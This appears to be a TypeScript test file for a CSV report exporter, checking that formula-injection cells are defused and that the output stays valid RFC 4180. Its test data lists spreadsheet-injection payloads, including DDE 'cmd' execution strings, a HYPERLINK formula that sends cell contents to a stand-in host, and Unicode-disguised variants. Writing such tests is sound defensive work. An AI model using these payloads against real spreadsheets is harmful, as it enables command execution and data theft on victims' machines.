import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csv, defused } from "../../../../lib/reports/formats/csv.ts";
import type { Report } from "../../../../lib/reports/model.ts";
import { bridgeReport } from "../../../support/bridge-report.ts";
import { reportFullOf } from "../hostile-report.ts";
import { HOSTILE_STRINGS } from "../hostile-strings.ts";

const MARK = "\uFEFF";

function rendered(report: Report): string {
  return [...csv.render(report)].join("");
}

/** Reads RFC 4180, no more: quoted cells, CRLF between and after records. Throws on anything else. */
function parse(file: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let at = 0;
  while (at < file.length) {
    const cell = /"((?:[^"]|"")*)"(,|\r\n)/y;
    cell.lastIndex = at;
    const [whole, text, end] = cell.exec(file) ?? [];
    if (whole === undefined || text === undefined) throw new Error(`no quoted cell at ${at}`);
    record.push(text.replaceAll('""', '"'));
    if (end === "\r\n") {
      records.push(record);
      record = [];
    }
    at = cell.lastIndex;
  }
  return records;
}

describe("a cell that would begin a formula is defused", () => {
  test.each([
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "\rx",
    " =1+1",
    "   \u00A0=1+1",
    "\u3000=1+1",
    "\u200B=1+1",
    "\uFEFF=1+1",
    "\u0000=1+1",
    "\u202E=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
    "=",
    "-",
    "– =1".slice(2),
  ])("%j", (cell) => {
    expect(defused(cell)).toBe(`'${cell}`);
  });

  test.each(["1+1=2", "It rose by -4 %.", "a@example.org", "", " text", "'=1+1", "(1) =1+1", "“=1+1”", "— dash"])(
    "%j is left alone",
    (cell) => {
      expect(defused(cell)).toBe(cell);
    },
  );
});

describe("the csv export", () => {
  test("begins with the byte order mark Excel needs to read UTF-8", () => {
    expect(Buffer.from(rendered(bridgeReport()), "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  test("is RFC 4180: a header and one record a claim, all of one width", () => {
    const [header, ...records] = parse(rendered(bridgeReport()).slice(MARK.length));
    expect(header?.slice(0, 3)).toEqual(["sentence", "text", "state"]);
    expect(new Set(header).size).toBe(header?.length);
    expect(records).toHaveLength(bridgeReport().claims.length);
    for (const record of records) expect(record).toHaveLength(header?.length ?? 0);
  });

  test("numbers the entries of a cell when there are several", () => {
    const [header, ...records] = parse(rendered(bridgeReport()).slice(MARK.length));
    const cell = (sentence: number, column: string) => records[sentence - 1]?.[header?.indexOf(column) ?? -1];
    expect(cell(9, "verdicts")).toBe("(1) Mixed\n(2) Refuted");
    expect(cell(9, "reviewers")).toBe("(1) Ada Quill\n(2) Ben Ledger");
    expect(cell(8, "verdicts")).toBe("Refuted");
    expect(cell(8, "sources")).toBe("Closing account of the bridge project");
    expect(cell(18, "verdicts")).toBe("");
  });

  test("has a row for a sentence that was split, behind the piece whose number it has", () => {
    const [header = [], ...records] = parse(rendered(bridgeReport()).slice(MARK.length));
    const columns = ["sentence", "state", "verdicts", "missing", "split_or_joined_from", "split_or_joined_into"];
    const rows = records.map((record) => columns.map((column) => record[header.indexOf(column)]));
    const into = "(1) claim-15\n(2) claim-16";
    expect(rows.slice(14, 17)).toEqual([
      ["15", "Open", "", "", "claim-15-undivided", ""],
      ["15", "Superseded", "Supported", "", "", into],
      ["16", "Proposed", "Supported with a caveat", expect.stringContaining("second person"), "claim-15-undivided", ""],
    ]);
  });

  test("lets no text out of its cell and no formula into one", () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ unit: fc.constantFrom(...'",\r\n=+-@ a＝') })),
        (text) => {
          const [header, ...records] = parse(rendered(reportFullOf(text)).slice(MARK.length));
          expect(records).toHaveLength(13);
          for (const record of records) {
            expect(record).toHaveLength(header?.length ?? 0);
            for (const cell of record) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
          }
          expect(records[0]?.[header?.indexOf("document") ?? -1]?.replace(/^'/, "")).toBe(text.replace(/^'/, ""));
        },
      ),
      { seed: 1965, numRuns: 200 },
    );
  });
});
